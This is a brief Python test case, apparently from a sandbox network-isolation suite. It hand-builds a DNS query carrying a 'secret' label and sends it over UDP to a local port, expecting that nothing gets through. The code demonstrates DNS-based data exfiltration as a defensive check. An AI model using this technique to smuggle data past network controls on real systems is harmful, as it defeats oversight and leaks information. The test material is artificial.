"""Tries: bring data out in a question to a name server.

Must: nothing arrives.
"""

# group: the network
# deserves: 0

# %%
question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\x06secret\x07example\x00" + struct.pack("!2H", 1, 1)
one = socket.socket(type=socket.SOCK_DGRAM)
one.connect(("127.0.0.1", TARGET["udp"]))
one.send(question)
